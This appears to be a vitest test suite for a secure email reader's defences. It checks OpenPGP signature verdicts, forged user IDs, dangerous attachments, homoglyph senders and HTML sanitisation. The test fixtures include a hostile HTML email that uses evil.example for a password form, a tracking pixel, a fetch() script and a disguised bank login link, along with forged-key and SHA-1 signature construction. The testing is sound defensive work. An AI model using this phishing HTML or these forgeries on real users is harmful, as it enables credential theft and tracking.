/** What a hostile letter may try on its reader: names it never certified, signatures of every kind, files, HTML, look-alikes. */
import { deflateRawSync } from 'node:zlib';
import { beforeAll, describe, expect, test } from 'vitest';
import { keyFactsOf } from '../../electron/crypto/key-facts';
import { openpgp } from '../../electron/crypto/openpgp-config';
import { readMail } from '../../electron/parser/read-mail';
import { dangersOf } from '../../shared/letter/dangers';
import { lookAlikes } from '../../shared/letter/look-alike';
import type { ParsedMail, SignatureDetail } from '../../shared/letter/parsed-mail';
import { detailOf, type SealState, sealOf } from '../../shared/letter/verdict';
import { oracleOver } from '../support/in-process-oracle';
import * as forms from '../support/mail-forms';

const DAY = 86_400_000;
const NOW = Date.now();

async function read(entity: string, publicKeys: readonly openpgp.Key[] = []): Promise<ParsedMail> {
  const ring = { privateKeys: [], publicKeys: [...publicKeys] };
  const outcome = await readMail(forms.mail({}, entity), oracleOver(ring), { now: NOW, open: [] });
  if (outcome.kind !== 'mail') throw new Error(outcome.reason);
  return outcome;
}

/** What the window would say of it, were the signer's key pinned to its reporter. */
function sealOfPinned(mail: ParsedMail): [SealState, SignatureDetail | null] {
  const { encrypted, signature, covers, attention, signatures } = mail;
  const facts = {
    encrypted,
    signature,
    covers: covers ?? 'part',
    attention: attention?.reason ?? null,
  } as const;
  return [
    sealOf({ ...facts, pinned: mail.signer !== null, otherPinned: false }),
    detailOf(signatures, signature),
  ];
}

async function personAt(
  created: number,
  expiresInDays = 0,
  curve: 'curve25519Legacy' | 'nistP256' = 'curve25519Legacy',
): Promise<forms.Person> {
  const { privateKey } = await openpgp.generateKey({
    ...{ type: 'ecc', curve, format: 'object', date: new Date(created) },
    userIDs: [{ name: 'Rita', email: 'rita@reporter.example' }],
    keyExpirationTime: expiresInDays * 86_400,
  });
  return { name: 'Rita', address: 'rita@reporter.example', privateKey, publicKey: privateKey.toPublic() };
}

/** openpgp declares fewer of its parameters than it takes. */
async function signWith(packet: openpgp.SignaturePacket, ...given: readonly unknown[]): Promise<void> {
  // as: see above
  const { sign } = packet as unknown as { sign(...all: readonly unknown[]): Promise<void> };
  await sign.call(packet, ...given);
}

/** A copy of the key whose own certification says that it may certify, and nothing else. */
async function certifyOnly(person: forms.Person): Promise<openpgp.Key> {
  const { keyPacket, users } = person.privateKey;
  const user = users[0]?.userID;
  if (user == null) throw new Error('a key without a user id');
  const own = Object.assign(new openpgp.SignaturePacket(), {
    signatureType: openpgp.enums.signature.certPositive,
    publicKeyAlgorithm: keyPacket.algorithm,
    hashAlgorithm: openpgp.enums.hash.sha256,
    keyFlags: new Uint8Array([1]),
    preferredSymmetricAlgorithms: [openpgp.enums.symmetric.aes256],
  });
  const created = person.privateKey.getCreationTime();
  await signWith(
    own,
    keyPacket,
    { userID: user, key: keyPacket },
    new Date(created.getTime() + 1_000),
    false,
    openpgp.config,
  );
  const packets = new openpgp.PacketList();
  packets.push(person.publicKey.keyPacket, user, own);
  return openpgp.readKey({ binaryKey: packets.write() });
}

describe('P8 signatures and what is said of them', () => {
  const entity = forms.textEntity('The gate opens.');
  let rita: forms.Person;
  const signed = async (by: forms.Person, at: number, over = entity): Promise<string> =>
    forms.signedWith(entity, await forms.detached(over, by, new Date(at)));
  const seal = async (mail: string, ...keys: readonly openpgp.Key[]) => sealOfPinned(await read(mail, keys));

  beforeAll(async () => {
    rita = await personAt(NOW - 400 * DAY);
  });

  test('good, pinned and over all of it: verified, and in no other row of this table', async () => {
    expect(await seal(await signed(rita, NOW - DAY), rita.publicKey)).toEqual(['verified', null]);
  });

  test('of a key that is not here', async () => {
    expect(await seal(await signed(rita, NOW - DAY))).toEqual(['unknown-key', null]);
  });

  test('over another text', async () => {
    const other = await signed(rita, NOW - DAY, forms.textEntity('Another text.'));
    expect(await seal(other, rita.publicKey)).toEqual(['bad', 'does-not-match']);
  });

  test('of a key that has expired since, and of one that had expired', async () => {
    const brief = await personAt(NOW - 100 * DAY, 10);
    expect(await seal(await signed(brief, NOW - 95 * DAY), brief.publicKey)).toEqual([
      'refused',
      'key-expired',
    ]);
    const lasting = await personAt(NOW - 100 * DAY);
    const { publicKey } = await openpgp.reformatKey({
      privateKey: lasting.privateKey,
      userIDs: [{ name: 'Rita', email: 'rita@reporter.example' }],
      date: new Date(NOW - 100 * DAY),
      keyExpirationTime: 10 * 86_400,
      format: 'object',
    });
    const late = await signed(lasting, NOW - DAY);
    expect(await seal(late, publicKey)).toEqual(['refused', 'key-expired-when-signed']);
  });

  test('of a revoked key', async () => {
    const { publicKey } = await openpgp.revokeKey({ key: rita.privateKey, format: 'object' });
    expect(await seal(await signed(rita, NOW - DAY), publicKey)).toEqual(['refused', 'key-revoked']);
  });

  test('from the future', async () => {
    expect(await seal(await signed(rita, NOW + 2 * DAY), rita.publicKey)).toEqual([
      'refused',
      'signature-in-future',
    ]);
  });

  test('with SHA-1', async () => {
    // EdDSA refuses to sign with it at all
    const elder = await personAt(NOW - 400 * DAY, 0, 'nistP256');
    const message = await openpgp.createMessage({ binary: Buffer.from(entity.replace(/\r?\n/g, '\r\n')) });
    const weak = {
      ...openpgp.config,
      nonDeterministicSignaturesViaNotation: false,
      preferredHashAlgorithm: openpgp.enums.hash.sha1,
      rejectHashAlgorithms: new Set<openpgp.enums.hash>(),
      rejectMessageHashAlgorithms: new Set<openpgp.enums.hash>(),
    };
    const packet = Object.assign(new openpgp.SignaturePacket(), {
      signatureType: openpgp.enums.signature.binary,
      publicKeyAlgorithm: elder.privateKey.keyPacket.algorithm,
      hashAlgorithm: openpgp.enums.hash.sha1,
    });
    await signWith(
      packet,
      elder.privateKey.keyPacket,
      message.packets[0] as object,
      new Date(NOW - DAY),
      true,
      weak,
    );
    const list = new openpgp.PacketList();
    list.push(packet);
    const armor = openpgp.armor(openpgp.enums.armor.signature, list.write());
    expect(await seal(forms.signedWith(entity, armor), elder.publicKey)).toEqual(['refused', 'weak-hash']);
  });

  test('of a key that is only for certifying', async () => {
    const key = await certifyOnly(rita);
    expect(await seal(await signed(rita, NOW - DAY), key)).toEqual(['refused', 'key-unusable']);
  });

  test('of several, the worst one speaks; two good ones of two keys are pinned to nobody', async () => {
    const eve = await personAt(NOW - 400 * DAY);
    const twice = async (first: string, second: string): Promise<string> => {
      const packets = await Promise.all(
        [first, second].map((armoredSignature) => openpgp.readSignature({ armoredSignature })),
      );
      const list = new openpgp.PacketList();
      for (const one of packets) list.push(...one.packets);
      return forms.signedWith(entity, openpgp.armor(openpgp.enums.armor.signature, list.write()));
    };
    const good = await forms.detached(entity, rita, new Date(NOW - DAY));
    const bad = await forms.detached('another text', eve, new Date(NOW - DAY));
    const hers = await forms.detached(entity, eve, new Date(NOW - DAY));
    const keys = [rita.publicKey, eve.publicKey];
    expect(await seal(await twice(good, bad), ...keys)).toEqual(['bad', 'does-not-match']);
    expect(await seal(await twice(good, hers), rita.publicKey)).toEqual(['unknown-key', null]);
    expect(await seal(await twice(good, hers), ...keys)).toEqual(['not-pinned', null]);
  });

  test('P9 over one part only: what stands around it is not covered', async () => {
    const inner = forms.signedWith(entity, await forms.detached(entity, rita, new Date(NOW - DAY)));
    const around = forms.multipart('mixed', [inner, forms.textEntity('And send the reward to me.')]);
    expect(await seal(around, rita.publicKey)).toEqual(['part-signed', null]);
  });
});

describe('P7 a key', () => {
  test('with a user id that it never certified is never called by it', async () => {
    const eve = await forms.makePerson('Eve', 'eve@evil.example');
    const packets = new openpgp.PacketList();
    const [first, ...rest] = eve.publicKey.toPacketList();
    if (first === undefined) throw new Error('a key without packets');
    packets.push(
      first,
      openpgp.UserIDPacket.fromObject({ name: 'Rita', email: 'rita@reporter.example' }),
      ...rest,
    );
    const forged = await openpgp.readKey({ binaryKey: packets.write() });
    // what would be shown, were it asked of the library alone
    expect(forged.getUserIDs()).toContain('Rita <rita@reporter.example>');
    expect((await keyFactsOf(forged, new Date(NOW))).userIds).toEqual(['Eve <eve@evil.example>']);
  });
});

/** A zip with one stored entry of that name; `flags` are the general purpose bits. */
function zipOf(name: string, flags = 0): Buffer {
  const body = deflateRawSync(Buffer.from('content'));
  const title = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(flags, 6);
  local.writeUInt32LE(body.length, 18);
  local.writeUInt16LE(title.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(flags, 8);
  central.writeUInt16LE(title.length, 28);
  const start = local.length + title.length + body.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt32LE(start, 16);
  return Buffer.concat([local, title, body, central, title, end]);
}

describe('M8 a file', () => {
  const known = async (name: string, bytes: Uint8Array, type?: string) => {
    const entity = forms.multipart('mixed', [
      forms.textEntity('See it.'),
      forms.fileEntity(name, bytes, type),
    ]);
    const file = (await read(entity)).attachments[0];
    if (file === undefined) throw new Error('no file');
    const { originalName, claimedType, detectedType, inside = [] } = file;
    return dangersOf({ name: file.name, originalName, claimedType, detectedType, inside });
  };

  test('is marked by what it is, under any name', async () => {
    expect(await known('notes.txt', Buffer.from('MZ\u0090\0'))).toEqual(['program']);
    expect(await known('notes.txt', Buffer.from('\x7fELF'))).toEqual(['program']);
    expect(await known('a.txt', Buffer.from('4c00000001140200', 'hex'))).toEqual(['shortcut']);
    expect(await known('a.bin', Buffer.concat([Buffer.alloc(0x8001), Buffer.from('CD001')]))).toEqual([
      'disk-image',
    ]);
    expect(await known('report.docx', zipOf('word/vbaProject.bin'))).toEqual(['macros']);
    expect(await known('evidence.zip', zipOf('log.txt', 1))).toEqual(['locked-archive']);
    expect(await known('evidence.zip', zipOf('log.txt'))).toEqual([]);
    expect(
      await known(
        'old.doc',
        Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('_VBA_PROJECT', 'utf16le')]),
      ),
    ).toEqual(['macros']);
    expect(await known('report.pdf.exe', Buffer.from('x'))).toEqual(['program', 'two-endings']);
  });

  test('whose name turns the reading order is named without it, and marked', async () => {
    expect(await known('photo\u202egpj.exe', Buffer.from('MZ'))).toEqual(['program', 'turned-name']);
  });

  test('keeps its first bytes beside what its sender says of it', async () => {
    const entity = forms.multipart('mixed', [
      forms.textEntity('x'),
      forms.fileEntity('log.txt', zipOf('a'), 'text/plain'),
    ]);
    const file = (await read(entity)).attachments[0];
    expect(file).toMatchObject({
      claimedType: 'text/plain',
      detectedType: 'application/zip',
      typeMismatch: true,
    });
    expect(file?.firstBytes).toMatch(/^504b0304/);
    expect(file?.firstBytes).toHaveLength(32);
  });

  test('made of broken directories ends without a word', async () => {
    for (const cut of [5, 9, 31, 60, 80])
      expect(await known('a.zip', zipOf('log.txt', 1).subarray(0, cut))).toBeDefined();
    const lying = zipOf('log.txt');
    lying.writeUInt32LE(0xffff_ffff, lying.length - 6);
    expect(await known('a.zip', lying)).toEqual([]);
  });
});

describe('M10 HTML', () => {
  test('that would tell its sender or act comes out as words, and is said to have held it', async () => {
    const mail = await read(forms.htmlEntity(EXFILTRATING));
    const [section] = mail.sections;
    expect(section?.notes).toEqual(
      expect.arrayContaining(['html-only', 'active-html', 'images-left-out', 'link-mismatch']),
    );
    expect(section?.text).not.toMatch(/<[a-z!/]/i);
    expect(section?.text).toContain('Please read.');
    expect(section?.text).toContain('https://bank.example [https://evil.example/login]');
  });
});

const EXFILTRATING = `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="dns-prefetch" href="//evil.example"><link rel="stylesheet" href="https://evil.example/s.css">
<style>@import url(https://evil.example/i.css); @font-face{font-family:f;src:url(https://evil.example/f.woff)} p{background:url(https://evil.example/b.png)}</style></head>
<body background="https://evil.example/bg.png"><p>Please read.</p><img src="https://evil.example/pixel.gif" width="1" height="1">
<form action="https://evil.example/form"><input name="password" type="password"></form>
<object data="https://evil.example/o.swf"></object><svg><image href="https://evil.example/v.svg"/></svg>
<iframe src="https://evil.example/frame"></iframe><video src="https://evil.example/v.mp4" autoplay></video>
<a href="https://evil.example/login">https://bank.example</a><script>fetch('https://evil.example/js')</script></body></html>`;

describe('M11 a sender', () => {
  test('whose name or address is made of other letters is named for what it could be taken for', async () => {
    const bytes = forms.mail({ from: 'Security <security@harb\u043eur.example>' }, forms.textEntity('x'));
    const outcome = await readMail(bytes, oracleOver({ privateKeys: [], publicKeys: [] }), {
      now: NOW,
      open: [],
    });
    if (outcome.kind !== 'mail' || outcome.from === null) throw new Error('no sender');
    const found = lookAlikes(outcome.from, { ours: 'security@harbour.example', others: [] });
    expect(found).toMatchObject([
      { code: 'mixed-scripts', like: 'harbour' },
      { code: 'like-us', like: 'security@harbour.example' },
    ]);
  });
});
